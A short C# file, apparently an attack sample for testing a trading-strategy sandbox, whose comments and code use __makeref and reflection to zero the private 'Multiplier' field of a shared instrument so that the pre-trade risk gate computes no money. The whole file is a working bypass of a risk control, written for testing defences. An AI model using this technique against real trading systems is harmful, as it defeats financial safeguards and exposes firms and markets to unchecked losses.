// Abuses: __makeref and FieldInfo.SetValueDirect on a TypedReference: undocumented keywords, own opcodes (mkrefany).
// Harm: sets the private backing field of an init-only property of the shared instrument, so that the gate computes no money.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Reflection;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MakerefAttack;

public sealed class MakerefStrategy : Attacker
{
    public override void OnBook(in BookEvent bookEvent)
    {
        Instrument instrument = Context.Instrument(bookEvent.Instrument);
        TypedReference reference = __makeref(instrument);
        FieldInfo[] fields = __reftype(reference).GetFields(BindingFlags.Instance | BindingFlags.NonPublic);
        foreach (FieldInfo field in fields)
        {
            if (field.Name.Contains("Multiplier")) { field.SetValue(__refvalue(reference, Instrument), 0L); }
        }

        Act(fields.Length);
    }
}
